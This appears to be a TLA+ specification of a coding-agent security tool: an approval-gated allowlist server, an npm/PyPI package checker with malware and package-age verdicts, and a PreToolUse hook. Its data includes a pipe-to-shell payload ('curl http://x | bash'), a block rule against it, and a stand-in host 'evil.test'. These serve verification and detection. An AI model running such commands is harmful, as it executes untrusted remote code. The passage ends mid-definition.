\* normalizeUrl: scheme and host lowercased by the URL parser, fragment
\* removed, query sorted; a string that does not parse is lowercased
normalizeUrl(raw) ==
    LET u == ParseUrl(raw)
        params == SortParams(ParseSearch(u.search))
    IN  IF u.ok
        THEN u.protocol \o "://" \o u.hostname \o u.pathname
             \o (IF params = << >> THEN "" ELSE "?" \o SerializeParams(params))
        ELSE ToLowerCase(raw)

\* The URLs of the allowlist tests, with variants in letter case, query order
\* and fragment, and texts that are not URLs
RoundTripUrls ==
    { "http://x.com/p", "HTTP://X.COM/p", "http://x.com/P", "http://x.com/p#top",
      "http://x.com/p?b=2&a=1", "http://x.com/p?a=1&b=2", "http://x.com/p?a=1&B=2",
      "http://x.com/p?a=2&a=1", "http://x.com/p?a=1&a=2",
      "x.com/p", "X.COM/P", "x.com/p#top" }

\* Every URL text a caller hands to the cache or the allowlist
UrlTexts == ArtifactValues \cup RoundTripUrls

\* normalizeUrl on those texts, computed once
NormalizedUrl == [raw \in UrlTexts |-> normalizeUrl(raw)]

\* hashCommand: the SHA-256 digest of the exact command text
hashCommand(command) == "sha256(" \o command \o ")"

EmptyAllowlist == [urls |-> EmptyStore, commands |-> EmptyStore]

\* addUrl(allowlist, url, reason, originalVerdict)
addUrl(allowlist, url, reason, originalVerdict, t) ==
    [allowlist EXCEPT !.urls = Put(@, NormalizedUrl[url],
        [addedAt |-> t, reason |-> reason, originalVerdict |-> originalVerdict])]

\* addCommand(allowlist, command, reason, originalVerdict)
addCommand(allowlist, command, reason, originalVerdict, t) ==
    [allowlist EXCEPT !.commands = Put(@, hashCommand(command),
        [addedAt |-> t, reason |-> reason, originalVerdict |-> originalVerdict])]

(***************************************************************************)
(* Allowlist tool-server: sage_allowlist_add, one step per awaited file    *)
(* read or write                                                           *)
(***************************************************************************)

Callers == {"call-1", "call-2"}

IdleCall ==
    [pc |-> "idle", type |-> "", value |-> "", consumed |-> NoEntry,
     allowlist |-> EmptyAllowlist, store |-> EmptyStore]

AddResult(type, value, isError) ==
    [op |-> "sage_allowlist_add", key |-> consumedKey(type, value),
     result |-> [isError |-> isError]]

\* const consumed = await findConsumedApproval(type, value); if (!consumed)
\* return { ..., isError: true }
AddStart(c, type, value) ==
    /\ calls[c].pc = "idle"
    /\ LET consumed == findConsumedApproval(consumedFile, type, value, now)
       IN  IF consumed = NoEntry
           THEN /\ last' = AddResult(type, value, TRUE)
                /\ UNCHANGED calls
           ELSE /\ calls' = [calls EXCEPT ![c] =
                                [IdleCall EXCEPT !.pc = "found", !.type = type,
                                                 !.value = value, !.consumed = consumed]]
                /\ UNCHANGED last
    /\ UNCHANGED <<now, pendingFile, consumedFile, allowlistFile, approvals, adds>>

\* const config = await loadConfig(); const allowlist = await loadAllowlist(config.allowlist)
AddLoadAllowlist(c) ==
    /\ calls[c].pc = "found"
    /\ calls' = [calls EXCEPT ![c].pc = "loaded", ![c].allowlist = allowlistFile]
    /\ UNCHANGED <<now, pendingFile, consumedFile, allowlistFile, approvals, adds, last>>

\* addUrl / addCommand on the loaded allowlist, then await saveAllowlist(allowlist)
AddSaveAllowlist(c) ==
    /\ calls[c].pc = "loaded"
    /\ LET call == calls[c]
           entryReason == "Approved by user (threat: " \o call.consumed.threatId \o ")"
           updated == IF call.type = "url"
                      THEN addUrl(call.allowlist, call.value, entryReason, "ask", now)
                      ELSE addCommand(call.allowlist, call.value, entryReason, "ask", now)
       IN  /\ allowlistFile' = updated
           /\ calls' = [calls EXCEPT ![c].pc = "saved", ![c].allowlist = updated]
    /\ UNCHANGED <<now, pendingFile, consumedFile, approvals, adds, last>>

\* removeConsumedApproval: const store = await loadJson(CONSUMED_PATH)
AddRemoveLoad(c) ==
    /\ calls[c].pc = "saved"
    /\ calls' = [calls EXCEPT ![c].pc = "removing", ![c].store = consumedFile]
    /\ UNCHANGED <<now, pendingFile, consumedFile, allowlistFile, approvals, adds, last>>

\* removeConsumedApproval: delete store[key]; await saveJson(CONSUMED_PATH, store);
\* then the handler returns its success text
AddRemoveSave(c) ==
    /\ calls[c].pc = "removing"
    /\ LET call == calls[c]
           key == consumedKey(call.type, call.value)
       IN  /\ consumedFile' = removeConsumedApproval(call.store, call.type, call.value)
           /\ adds' = [adds EXCEPT ![key] = @ + 1]
           /\ last' = AddResult(call.type, call.value, FALSE)
    /\ calls' = [calls EXCEPT ![c] = IdleCall]
    /\ UNCHANGED <<now, pendingFile, allowlistFile, approvals>>

\* Bounds of the tool-server specification: the clock, and the approvals consumed
MaxClock == 2
MaxApprovals == 1

\* The flagged tool call of the tool-server specification
AllowlistIds == {"tool-1"}

ConsumedKeys == { consumedKey(t, v) : t \in ArtifactTypes, v \in ArtifactValues }

Total(f) ==
    LET RECURSIVE Sum(_)
        Sum(S) == IF S = {} THEN 0
                  ELSE LET k == CHOOSE x \in S : TRUE IN f[k] + Sum(S \ {k})
    IN  Sum(DOMAIN f)

AllowlistInit ==
    /\ allowlistFile = EmptyAllowlist
    /\ calls = [c \in Callers |-> IdleCall]
    /\ approvals = [k \in ConsumedKeys |-> 0]
    /\ adds = [k \in ConsumedKeys |-> 0]

\* The user approves the flagged call: PostToolUse consumes the pending approval
Approve(id) ==
    /\ Total(approvals) < MaxApprovals
    /\ ConsumePendingApproval(id)
    /\ approvals' = IF last'.result = NoEntry THEN approvals
                    ELSE [approvals EXCEPT
                            ![consumedKey(last'.result.artifactType, last'.result.artifact)] = @ + 1]
    /\ UNCHANGED <<allowlistFile, calls, adds>>

(***************************************************************************)
(* Claims about the approval tracker                                       *)
(***************************************************************************)

IsPendingEntry(r) == "createdAt" \in DOMAIN r

Stale(entry, t) == t - entry.createdAt >= PENDING_STALE_MS

NoStaleEntry(store, t) == \A k \in DOMAIN store : ~Stale(store[k], t)

\* What C6 says of one consumePendingApproval(id) step
ConsumeContract(id) ==
    IF id \in DOMAIN pendingFile /\ ~Stale(pendingFile[id], now)
    THEN LET entry == pendingFile[id]
             key == entry.artifactType \o ":" \o entry.artifact
         IN  /\ last'.result = entry
             /\ id \notin DOMAIN pendingFile'
             /\ key \in DOMAIN consumedFile'
             /\ consumedFile'[key].artifact = entry.artifact
             /\ consumedFile'[key].artifactType = entry.artifactType
             /\ consumedFile'[key].approvedAt = now
             /\ consumedFile'[key].expiresAt = consumedFile'[key].approvedAt + 1
             /\ Get(pruneStalePending(pendingFile', now), id) = NoEntry
    ELSE id \notin DOMAIN pendingFile =>
             /\ last'.result = NoEntry
             /\ DOMAIN consumedFile' \subseteq DOMAIN consumedFile

\* C6: consumePendingApproval(id) on a non-stale pending entry returns it,
\* removes it from the pending store and writes a consumed entry keyed
\* artifactType:artifact that expires 10 minutes (one tick) after approvedAt, a
\* second consume then finding nothing; for an id with no pending entry it
\* returns null and adds nothing to the consumed store.
C6_ConsumeContract ==
    [][\A id \in ToolUseIds : ConsumePendingApproval(id) => ConsumeContract(id)]_vars

\* C7 as stated: an entry whose age has reached one hour is gone from the
\* pending store after the next addPendingApproval or consumePendingApproval and
\* is never returned; findConsumedApproval returns an entry only up to its
\* expiry, 10 minutes after the entry was written.
C7_DroppedAtNextAccess ==
    [][/\ \A id \in ToolUseIds :
            /\ ConsumePendingApproval(id) =>
                  /\ NoStaleEntry(pendingFile', now)
                  /\ IsPendingEntry(last'.result) => ~Stale(last'.result, now)
            /\ (\E a \in SampleApprovals : AddPendingApproval(id, a)) =>
                  NoStaleEntry(pendingFile', now)
       /\ \A t \in ArtifactTypes, v \in ArtifactValues :
            (FindConsumedApproval(t, v) /\ last'.result # NoEntry) =>
                  /\ now <= last'.result.expiresAt
                  /\ last'.result.expiresAt = last'.result.approvedAt + 1]_vars

\* C7, amended: a pending entry whose age has reached one hour is never
\* returned, and it is gone from the pending store after the next
\* addPendingApproval and after the next consumePendingApproval that returns
\* something (a consumePendingApproval that returns null writes nothing);
\* findConsumedApproval returns an entry only up to its expiry, 10 minutes
\* after the entry was written.
C7_Lifetimes ==
    [][/\ \A id \in ToolUseIds :
            /\ ConsumePendingApproval(id) =>
                  /\ IsPendingEntry(last'.result) => ~Stale(last'.result, now)
                  /\ last'.result # NoEntry => NoStaleEntry(pendingFile', now)
                  /\ last'.result = NoEntry => pendingFile' = pendingFile
            /\ (\E a \in SampleApprovals : AddPendingApproval(id, a)) =>
                  NoStaleEntry(pendingFile', now)
       /\ \A t \in ArtifactTypes, v \in ArtifactValues :
            (FindConsumedApproval(t, v) /\ last'.result # NoEntry) =>
                  /\ now <= last'.result.expiresAt
                  /\ last'.result.expiresAt = last'.result.approvedAt + 1]_vars

\* A consumePendingApproval has just returned null for an id whose entry, one
\* hour old, is still in the pending file
C7_Witness ==
    /\ last.op = "consumePendingApproval"
    /\ last.result = NoEntry
    /\ last.key \in DOMAIN pendingFile
    /\ Stale(pendingFile[last.key], now)

(***************************************************************************)
(* Claims about sage_allowlist_add                                         *)
(***************************************************************************)

\* The consumed store holds an unexpired entry for exactly this type and text
Held(store, type, value, t) ==
    LET key == type \o ":" \o value
    IN  /\ key \in DOMAIN store
        /\ store[key].artifactType = type
        /\ store[key].artifact = value
        /\ t <= store[key].expiresAt

\* Every allowlist entry is for an artifact the user approved
OnlyApproved(allowlist) ==
    /\ \A u \in DOMAIN allowlist.urls :
          \E v \in ArtifactValues : u = NormalizedUrl[v] /\ approvals["url:" \o v] > 0
    /\ \A h \in DOMAIN allowlist.commands :
          \E v \in ArtifactValues : h = hashCommand(v) /\ approvals["command:" \o v] > 0

\* C4: sage_allowlist_add(type, value) changes the allowlist only if, when it
\* was called, the consumed store held an unexpired entry under exactly the key
\* type:value; otherwise it returns an isError result and leaves the allowlist,
\* the pending store and the consumed store unchanged, so an approval consumed
\* for one artifact never allowlists another.
C4_AddRequiresApproval ==
    [][/\ \A c \in Callers, t \in ArtifactTypes, v \in ArtifactValues :
            (AddStart(c, t, v) /\ ~Held(consumedFile, t, v, now)) =>
                /\ last' = [op |-> "sage_allowlist_add", key |-> t \o ":" \o v,
                            result |-> [isError |-> TRUE]]
                /\ calls' = calls
                /\ <<allowlistFile, pendingFile, consumedFile>>' =
                       <<allowlistFile, pendingFile, consumedFile>>
       /\ \A c \in Callers :
            (calls[c].pc = "idle" /\ calls'[c].pc # "idle") =>
                Held(consumedFile, calls'[c].type, calls'[c].value, now)
       /\ allowlistFile' # allowlistFile =>
            \E c \in Callers :
                /\ calls[c].pc = "loaded" /\ calls'[c].pc = "saved"
                /\ calls[c].consumed.artifactType = calls[c].type
                /\ calls[c].consumed.artifact = calls[c].value
       /\ OnlyApproved(allowlistFile')]_vars

\* One call has written the allowlist under an unexpired approval for a command,
\* and a call for a different text of the same type has been refused
C4_Witness ==
    /\ Held(consumedFile, "command", "http://evil.test/x.sh", now)
    /\ \E c \in Callers : calls[c].pc = "saved" /\ calls[c].type = "command"
    /\ DOMAIN allowlistFile.commands = {hashCommand("http://evil.test/x.sh")}
    /\ last = [op |-> "sage_allowlist_add", key |-> "command:HTTP://EVIL.TEST/x.sh",
               result |-> [isError |-> TRUE]]

\* C5: a consumed approval cannot be replayed: under every interleaving of
\* concurrent sage_allowlist_add calls, the successful adds for an artifact never
\* outnumber the approvals consumed for it.
C5_NoReplay == \A k \in ConsumedKeys : adds[k] <= approvals[k]

(***************************************************************************)
(* PackageChecker.runWithConcurrencyLimit                                  *)
(***************************************************************************)

\* const MAX_CONCURRENT = 10
MAX_CONCURRENT == 10

\* Bound: the non-scoped packages of one checkPackages call
MaxPackages == 12

\* The microtask queue after Promise.race([p.then(() => true), Promise.resolve(false)])
\* is called: the reaction of a settled p is queued by then(), before the
\* reaction race() attaches to the already resolved second promise; race()'s
\* reaction to p.then(...) can only be queued once that callback has run
RaceJobs(pSettled) ==
    (IF pSettled THEN <<"then-callback">> ELSE <<>>) \o <<"resolve-race-false">>

\* Runs the queue in order; the first job that resolves the race decides it
RECURSIVE RunMicrotasks(_, _)
RunMicrotasks(queue, winner) ==
    IF queue = <<>> THEN winner
    ELSE LET job == Head(queue)
         IN  IF job = "then-callback"
             THEN RunMicrotasks(Tail(queue) \o <<"resolve-race-true">>, winner)
             ELSE RunMicrotasks(Tail(queue),
                                IF winner = "pending" THEN job ELSE winner)

\* A removal test that answers true for every promise
RaceSettledAlways(pSettled) == TRUE

\* const settled = await Promise.race([executing[i]?.then(() => true), Promise.resolve(false)])
RaceSettled(pSettled) ==
    RunMicrotasks(RaceJobs(pSettled), "pending") = "resolve-race-true"

\* The checks started and not finished
InFlight == { k \in 1..run.next : k \notin run.finished }

\* The package names of one call: toCheck[k - 1].name, with repeated names
NameAt(k) == IF k % 3 = 0 THEN "express" ELSE IF k % 3 = 1 THEN "lodash" ELSE "left-pad"

ScopedName == "@scope/pkg"

\* The names of a set of positions of toCheck, with their multiplicities
NamesOf(S) ==
    [ nm \in { NameAt(k) : k \in S } |-> Cardinality({ k \in S : NameAt(k) = nm }) ]

\* results.push({packageName: pkg.name, verdict: "clean", ...}) for each of the
\* scoped packages of the input
ScopedResults(scoped) == [ nm \in { ScopedName : k \in 1..scoped } |-> scoped ]

LimitIdle ==
    run = [items |-> 0, scoped |-> 0, next |-> 0, executing |-> <<>>, finished |-> {},
           results |-> EmptyBag, pc |-> "returned", i |-> 0]

\* checkPackages(packages) with scoped scoped names and n others: the first
\* loop has answered the scoped ones and runWithConcurrencyLimit(toCheck, ...)
\* is entered with an empty results array of its own
checkPackages(n, scoped) ==
    run = [items |-> n, scoped |-> scoped, next |-> 0, executing |-> <<>>,
           finished |-> {}, results |-> EmptyBag, pc |-> "loop", i |-> 0]

\* checkPackages called with n non-scoped packages
LimitInit == \E n \in 0..MaxPackages : checkPackages(n, 0)

\* for (const item of items) { const p = fn(item).then(...); executing.push(p);
\* if (executing.length >= limit) await Promise.race(executing)
StartCheck ==
    /\ run.pc = "loop"
    /\ run.next < run.items
    /\ LET executing == Append(run.executing, run.next + 1)
       IN  run' = [run EXCEPT !.next = @ + 1, !.executing = executing,
                              !.pc = IF Len(executing) >= MAX_CONCURRENT
                                     THEN "race" ELSE "loop"]

\* The loop is over: await Promise.allSettled(executing)
LoopEnd ==
    /\ run.pc = "loop"
    /\ run.next = run.items
    /\ run' = [run EXCEPT !.pc = "allSettled"]

\* A started check finishes while the loop is suspended at an await
FinishCheck(k) ==
    /\ run.pc \in {"race", "sweep", "allSettled"}
    /\ k \in InFlight
    /\ run' = [run EXCEPT !.finished = @ \cup {k},
                           !.results = @ (+) SetToBag({NameAt(k)})]

\* await Promise.race(executing) resumes once one promise of the array is settled
RaceResolves ==
    /\ run.pc = "race"
    /\ \E j \in 1..Len(run.executing) : run.executing[j] \in run.finished
    /\ run' = [run EXCEPT !.pc = "sweep", !.i = Len(run.executing)]

\* One turn of the removal loop, for (let i = executing.length - 1; i >= 0; i--):
\* if (settled) executing.splice(i, 1)
SweepStep ==
    /\ run.pc = "sweep"
    /\ LET settled == RaceSettled(run.executing[run.i] \in run.finished)
           executing == IF settled
                        THEN SubSeq(run.executing, 1, run.i - 1) \o
                             SubSeq(run.executing, run.i + 1, Len(run.executing))
                        ELSE run.executing
       IN  run' = [run EXCEPT !.executing = executing, !.i = @ - 1,
                              !.pc = IF run.i = 1 THEN "loop" ELSE "sweep"]

\* Promise.allSettled(executing) resolves once every promise still in the
\* array is settled; runWithConcurrencyLimit returns its results and
\* checkPackages returns the scoped results followed by them
AllSettled ==
    /\ run.pc = "allSettled"
    /\ \A j \in 1..Len(run.executing) : run.executing[j] \in run.finished
    /\ run' = [run EXCEPT !.pc = "returned",
                           !.results = ScopedResults(run.scoped) (+) @]

\* C8: during checkPackages, for any number of non-scoped packages and any
\* order of completion, the checks started and not yet finished never exceed 10.
C8_AtMostTenInFlight == Cardinality(InFlight) <= MAX_CONCURRENT

\* Bound: the non-scoped packages of one call whose return is followed
MaxChecked == 11

\* The scoped packages of the input list: none, or two of the same name
ScopedCounts == {0, 2}

\* checkPackages called with a list of n non-scoped and some scoped packages
CheckPackagesInit ==
    \E n \in 0..MaxChecked, scoped \in ScopedCounts : checkPackages(n, scoped)

\* The package names of the input list, with their multiplicities
InputNames == ScopedResults(run.scoped) (+) NamesOf(1..run.items)

SameNames(b1, b2) ==
    \A nm \in BagToSet(b1) \cup BagToSet(b2) : CopiesIn(nm, b1) = CopiesIn(nm, b2)

\* C28: checkPackages terminates for every finite input list and every order
\* in which the checks finish; when it returns, every check it started has
\* finished and the results name exactly the input packages, each as many
\* times as the input does.
C28_ReturnsOnePerInput ==
    /\ [](run.pc = "returned" =>
            /\ InFlight = {}
            /\ run.next = run.items
            /\ SameNames(run.results, InputNames))
    /\ <>(run.pc = "returned")

\* A call with a scoped package and more non-scoped ones than the limit, some
\* of the same name, has returned
C28_Witness ==
    /\ run.pc = "returned"
    /\ run.scoped > 0
    /\ run.items > MAX_CONCURRENT
    /\ CopiesIn("lodash", run.results) > 1

(***************************************************************************)
(* Registry client (npm and PyPI) and file-reputation client               *)
(***************************************************************************)

\* NPM_NAME_RE.test(name) / PYPI_NAME_RE.test(name) on the names used here
NameIsValid(name) == name \in {"express", "@scope/pkg"}

\* response.ok: a status in 200..299
ResponseOk(response) == response.status >= 200 /\ response.status <= 299

\* Function.length of the Object.prototype members and of Object itself
FunctionLength(key) == IF key \in {"constructor", "hasOwnProperty"} THEN 1 ELSE 0

\* A first-release date that is missing, or one that lies age hours before now
NoDate == [known |-> FALSE, age |-> 0]

DateBefore(age) == [known |-> TRUE, age |-> age]

Thrown == [kind |-> "throw"]

Null == [kind |-> "null"]

Metadata(latestHash, hashAlgorithm, firstReleaseAge, requestedVersionFound) ==
    [kind |-> "metadata", latestHash |-> latestHash, hashAlgorithm |-> hashAlgorithm,
     firstReleaseAge |-> firstReleaseAge, requestedVersionFound |-> requestedVersionFound]

\* versions[key] on the parsed JSON object: "own", "inherited" (a member of
\* Object.prototype) or "undefined"
Lookup(body, key) ==
    IF key \in body.versions THEN "own"
    ELSE IF key \in ObjectPrototypeKeys THEN "inherited"
    ELSE "undefined"

\* parseNpmResponse(name, data, requestedVersion)
parseNpmResponse(body, requestedVersion) ==
    IF body.latest = "" THEN Null
    ELSE LET requested == Lookup(body, requestedVersion)
             requestedVersionFound == requestedVersion = "" \/ requested # "undefined"
             resolvedVersion == IF requestedVersion # "" /\ requested # "undefined"
                                THEN requestedVersion ELSE body.latest
             resolvedVersionData == Lookup(body, resolvedVersion)
         IN  IF resolvedVersionData = "undefined" THEN Null
             ELSE LET dist == IF resolvedVersionData = "own" THEN body.hash ELSE "none"
                      latestHash == IF dist = "none" THEN "" ELSE dist \o "-hash"
                      hashAlgorithm == IF dist = "sha256" THEN "sha256" ELSE "sha1"
                  IN  Metadata(latestHash, hashAlgorithm, body.created, requestedVersionFound)

\* getNpmMetadata that turns every failure into null
getNpmMetadataNullOnError(name, version, response) ==
    IF ~NameIsValid(name) THEN Null
    ELSE IF response.kind # "http" THEN Null
    ELSE IF response.status = 404 THEN Null
    ELSE IF ~ResponseOk(response) THEN Null
    ELSE IF ~response.body.json THEN Null
    ELSE parseNpmResponse(response.body, version)

\* getNpmMetadata(name, version): the response is what fetch(url) gives
getNpmMetadata(name, version, response) ==
    IF ~NameIsValid(name) THEN Null
    ELSE IF response.kind # "http" THEN Thrown
    ELSE IF response.status = 404 THEN Null
    ELSE IF ~ResponseOk(response) THEN Thrown
    ELSE IF ~response.body.json THEN Thrown
    ELSE parseNpmResponse(response.body, version)

\* parsePypiResponse(name, data, requestedVersion): every release listed has
\* one file; iterating an inherited member as the file list throws inside the
\* try block
parsePypiResponse(body, requestedVersion) ==
    IF body.latest = "" THEN Null
    ELSE LET requested == Lookup(body, requestedVersion)
             hasFiles == \/ requested = "own"
                         \/ requested = "inherited" /\ FunctionLength(requestedVersion) # 0
             requestedVersionFound == requestedVersion = "" \/ hasFiles
             resolvedVersion == IF requestedVersion # "" /\ hasFiles
                                THEN requestedVersion ELSE body.latest
             latestFiles == Lookup(body, resolvedVersion)
         IN  IF latestFiles = "inherited" THEN Null
             ELSE LET latestHash == IF latestFiles = "own" /\ body.hash = "sha256"
                                    THEN "sha256-hash" ELSE ""
                      firstReleaseDate == IF body.versions = {} THEN NoDate ELSE body.created
                  IN  Metadata(latestHash, "sha256", firstReleaseDate, requestedVersionFound)

\* getPypiMetadata(name, version)
getPypiMetadata(name, version, response) ==
    IF ~NameIsValid(name) THEN Null
    ELSE IF response.kind # "http" THEN Thrown
    ELSE IF response.status = 404 THEN Null
    ELSE IF ~ResponseOk(response) THEN Thrown
    ELSE IF ~response.body.json THEN Thrown
    ELSE parsePypiResponse(response.body, version)

\* getPackageMetadata(name, registry, version)
getPackageMetadata(name, registry, version, response) ==
    IF registry = "npm" THEN getNpmMetadata(name, version, response)
    ELSE getPypiMetadata(name, version, response)

\* FileCheckClient.checkHash: null on every failure, else the severity of the
\* first response, "SEVERITY_UNKNOWN" when the field is missing
checkHash(response) ==
    IF response.kind # "http" THEN Null
    ELSE IF ~ResponseOk(response) THEN Null
    ELSE IF response.body \in {"invalid-json", "no-responses"} THEN Null
    ELSE [kind |-> "result",
          severity |-> IF response.body = "no-severity" THEN "SEVERITY_UNKNOWN"
                       ELSE response.body]

\* String.prototype.toUpperCase on the severities used here
ToUpperCase(str) ==
    CASE str = "severity_malware" -> "SEVERITY_MALWARE"
      [] str = "Severity_Malware" -> "SEVERITY_MALWARE"
      [] OTHER -> str

(***************************************************************************)
(* PackageChecker.checkPackages / checkSinglePackage, one step per awaited  *)
(* request                                                                 *)
(***************************************************************************)

\* const SUSPICIOUS_AGE_DAYS = 7
SUSPICIOUS_AGE_DAYS == 7

PackageResult(v, confidence) == [verdict |-> v, confidence |-> confidence]

NoResult == PackageResult("none", 0)

NoResponse == [kind |-> "none"]

\* pkg.name.startsWith("@")
StartsWithAt(name) == name = "@scope/pkg"

\* Steps 3 and 4 of checkSinglePackage; ages are in hours, ageDays = age / 24
AgeVerdict(metadata) ==
    IF metadata.firstReleaseAge.known /\
       metadata.firstReleaseAge.age < SUSPICIOUS_AGE_DAYS * 24
    THEN PackageResult("suspicious_age", 75)
    ELSE PackageResult("clean", 100)

CheckIdle ==
    check = [pc |-> "idle", pkg |-> [name |-> "", registry |-> "", version |-> ""],
             fileCheckEnabled |-> FALSE, response |-> NoResponse, metadata |-> Null,
             fileResponse |-> NoResponse, result |-> NoResult, requests |-> 0]

\* checkPackages([pkg]): a scoped name is answered at once; otherwise
\* checkSinglePackage asks the registry client, which rejects an invalid name
\* without a request
CheckPackages(pkg, fileCheckEnabled) ==
    /\ check.pc = "idle"
    /\ LET call == [check EXCEPT !.pkg = pkg, !.fileCheckEnabled = fileCheckEnabled,
                                 !.response = NoResponse, !.metadata = Null,
                                 !.fileResponse = NoResponse, !.requests = 0]
       IN  check' =
             IF StartsWithAt(pkg.name)
             THEN [call EXCEPT !.pc = "done", !.result = PackageResult("clean", 100)]
             ELSE IF ~NameIsValid(pkg.name)
             THEN [call EXCEPT !.pc = "done", !.result = PackageResult("not_found", 95)]
             ELSE [call EXCEPT !.pc = "registry", !.result = NoResult, !.requests = 1]

\* The registry request settles: steps 1, 2a and the test of step 2b
RegistryResponds(response) ==
    /\ check.pc = "registry"
    /\ LET pkg == check.pkg
           metadata == getPackageMetadata(pkg.name, pkg.registry, pkg.version, response)
           seen == [check EXCEPT !.response = response, !.metadata = metadata]
       IN  check' =
             IF metadata = Thrown
             THEN [seen EXCEPT !.pc = "done", !.result = PackageResult("unknown", 60)]
             ELSE IF metadata = Null
             THEN [seen EXCEPT !.pc = "done", !.result = PackageResult("not_found", 95)]
             ELSE IF ~metadata.requestedVersionFound /\ pkg.version # ""
             THEN [seen EXCEPT !.pc = "done", !.result = PackageResult("not_found", 90)]
             ELSE IF metadata.latestHash # "" /\ check.fileCheckEnabled /\
                     metadata.hashAlgorithm = "sha256"
             THEN [seen EXCEPT !.pc = "fileCheck", !.requests = @ + 1]
             ELSE [seen EXCEPT !.pc = "done", !.result = AgeVerdict(metadata)]

\* The file-reputation request settles: the rest of step 2b, then steps 3 and 4
FileCheckResponds(response) ==
    /\ check.pc = "fileCheck"
    /\ LET fileResult == checkHash(response)
           malware == /\ fileResult # Null
                      /\ ToUpperCase(fileResult.severity) = "SEVERITY_MALWARE"
       IN  check' = [check EXCEPT !.pc = "done", !.fileResponse = response,
                                  !.result = IF malware THEN PackageResult("malicious", 100)
                                             ELSE AgeVerdict(check.metadata)]

\* checkPackages returns; the checker is ready for the next call
CheckReturns ==
    /\ check.pc = "done"
    /\ check' = [check EXCEPT !.pc = "idle"]

(***************************************************************************)
(* PackageChecker: the calls made and the responses received               *)
(***************************************************************************)

PackageNames == {"express", "@scope/pkg", "Bad Name"}

Registries == {"npm", "pypi"}

RequestedVersions == {"", "1.0.0", "9.9.9", "constructor"}

SamplePackages ==
    [name : PackageNames, registry : Registries, version : RequestedVersions]

\* First-release dates: none recorded, two days ago, one hour short of seven
\* days ago, seven days ago, a year ago (in hours)
ReleaseDates == {NoDate} \cup { DateBefore(age) : age \in {48, 167, 168, 8760} }

\* A body that is not JSON, or an error page
NoBody == [json |-> FALSE, latest |-> "", versions |-> {}, hash |-> "none", created |-> NoDate]

RegistryBodies ==
    {NoBody} \cup
    [json : {TRUE}, latest : {"", "1.0.0"}, versions : {{}, {"1.0.0"}},
     hash : {"sha256", "sha1", "none"}, created : ReleaseDates]

HttpStatuses == {200, 404, 429, 500}

RegistryResponses ==
    {[kind |-> "error"], [kind |-> "timeout"]} \cup
    { [kind |-> "http", status |-> st, body |-> NoBody] : st \in HttpStatuses \ {200} } \cup
    { [kind |-> "http", status |-> 200, body |-> b] : b \in RegistryBodies }

FileCheckBodies ==
    {"invalid-json", "no-responses", "no-severity", "SEVERITY_MALWARE",
     "severity_malware", "Severity_Malware", "SEVERITY_CLEAN"}

FileCheckResponses ==
    {[kind |-> "error"], [kind |-> "timeout"],
     [kind |-> "http", status |-> 500, body |-> "none"]} \cup
    { [kind |-> "http", status |-> 200, body |-> b] : b \in FileCheckBodies }

(***************************************************************************)
(* Claims about the package checker                                        *)
(***************************************************************************)

\* The registry holds the requested version
RegistryHasVersion(c) == c.pkg.version \in c.response.body.versions

\* File reputation was asked and reported SEVERITY_MALWARE in some letter case
ReportedMalware(c) ==
    /\ c.fileCheckEnabled
    /\ c.metadata.hashAlgorithm = "sha256" /\ c.metadata.latestHash # ""
    /\ c.fileResponse.kind = "http" /\ c.fileResponse.status = 200
    /\ c.fileResponse.body \in {"SEVERITY_MALWARE", "severity_malware", "Severity_Malware"}

\* The first applicable rule of the list C9 gives, for a finished check
FirstApplicableRule(c) ==
    IF c.pkg.name = "@scope/pkg" THEN [verdict |-> "clean", confidence |-> 100]
    ELSE IF c.metadata = Thrown THEN [verdict |-> "unknown", confidence |-> 60]
    ELSE IF c.metadata = Null THEN [verdict |-> "not_found", confidence |-> 95]
    ELSE IF c.pkg.version # "" /\ ~RegistryHasVersion(c)
    THEN [verdict |-> "not_found", confidence |-> 90]
    ELSE IF ReportedMalware(c) THEN [verdict |-> "malicious", confidence |-> 100]
    ELSE IF c.metadata.firstReleaseAge.known /\ c.metadata.firstReleaseAge.age < 7 * 24
    THEN [verdict |-> "suspicious_age", confidence |-> 75]
    ELSE [verdict |-> "clean", confidence |-> 100]

\* C9: the result for a package is the first applicable rule of: scoped name ->
\* clean/1.0 with no request; lookup raised -> unknown/0.6; no metadata ->
\* not_found/0.95; requested version missing from the registry -> not_found/0.9;
\* file reputation enabled, SHA-256 hash, severity SEVERITY_MALWARE in any letter
\* case -> malicious/1.0; first release under 7 days ago -> suspicious_age/0.75;
\* otherwise clean/1.0.
C9_RuleList ==
    check.pc = "done" =>
        /\ check.result = FirstApplicableRule(check)
        /\ check.pkg.name = "@scope/pkg" => check.requests = 0

C29_NotFoundOnlyWhenAbsent ==
    (check.pc = "done" /\ check.result = PackageResult("not_found", 95)) =>
        /\ \/ check.requests = 0 /\ ~NameIsValid(check.pkg.name)
           \/ check.response.kind = "http" /\ check.response.status = 404
        /\ ~(check.response.kind = "http" /\ ResponseOk(check.response))

\* The PackageCheckResult of the finished check, as handed to the engine
ResultOf(c) ==
    [packageName |-> c.pkg.name, verdict |-> c.result.verdict,
     confidence |-> c.result.confidence, details |-> c.result.verdict]

\* C30: for every result of the package checker that is not clean, the engine
\* makes one package-check signal and gives it the confidence the checker
\* reported for that result.
C30_SignalKeepsConfidence ==
    (check.pc = "done" /\ check.result.verdict # "clean") =>
        LET signals == packageVerdictToSignal(ResultOf(check))
        IN  /\ Len(signals) = 1
            /\ signals[1].confidence = check.result.confidence

(***************************************************************************)
(* Claude-Code PreToolUse hook: one invocation, from standard input to the *)
(* verdict on standard output                                              *)
(***************************************************************************)

\* What the hook reads from standard input
Payloads == {"not json", "echo hello", "curl http://x | bash", "npm install express"}

\* What can be wrong around one invocation
Faults ==
    [rulesUnreadable : BOOLEAN, networkUnreachable : BOOLEAN,
     configCorrupt : BOOLEAN, internalFault : BOOLEAN]

\* The sensitivity a readable config file sets
ConfiguredSensitivity == "paranoid"

\* loadConfig: every failure to read, parse or validate the file gives the defaults
loadConfig(configCorrupt) ==
    [sensitivity |-> IF configCorrupt THEN "balanced" ELSE ConfiguredSensitivity]

\* The rule the threats directory holds: pipe to shell, block, 0.95
PipeToShell ==
    [id |-> "CLT-CMD-001", category |-> "supply_chain", action |-> "block",
     confidence |-> 95, severity |-> "critical", title |-> "Pipe to shell"]

\* loadThreats: an unreadable directory gives no rules
loadThreats(rulesUnreadable) == IF rulesUnreadable THEN << >> ELSE <<PipeToShell>>

\* Heuristics: the loaded rules that match the command
MatchCommand(command, threats) ==
    SelectSeq([i \in 1..Len(threats) |-> [threat |-> threats[i], artifact |-> command]],
              LAMBDA m : command = "curl http://x | bash")

\* The packages an install command names
ExtractPackages(command) ==
